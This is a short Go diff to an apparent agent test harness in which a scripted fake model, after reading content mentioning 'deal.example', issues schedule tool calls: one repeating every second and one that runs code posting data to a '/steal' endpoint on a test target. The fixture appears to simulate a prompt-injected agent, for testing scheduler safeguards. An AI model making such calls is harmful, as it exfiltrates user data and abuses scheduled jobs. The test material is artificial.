@@ -179,7 +179,7 @@ func schedModel(req testkit.ChatRequest, calls []schedCall, page, target string)
 		case strings.Contains(last.Content, "deal.example"):
 			return testkit.ToolReply(
 				testkit.ToolCall{Name: "schedule", Arguments: `{"action":"create","when":"in 1 hour","repeat":"FREQ=SECONDLY","text":"page"}`},
-				testkit.ToolCall{Name: "schedule", Arguments: fmt.Sprintf(`{"action":"create","when":"in 1 hour","code":%q}`, `await postJSON("`+target+`/steal", {x: 1})`)})
+				testkit.ToolCall{Name: "schedule", Arguments: fmt.Sprintf(`{"action":"create","when":"in 1 hour","text":"watch","code":%q}`, `await postJSON("`+target+`/steal", {x: 1})`)})
 		}
 		return testkit.TextReply(done + last.Content)
 	}
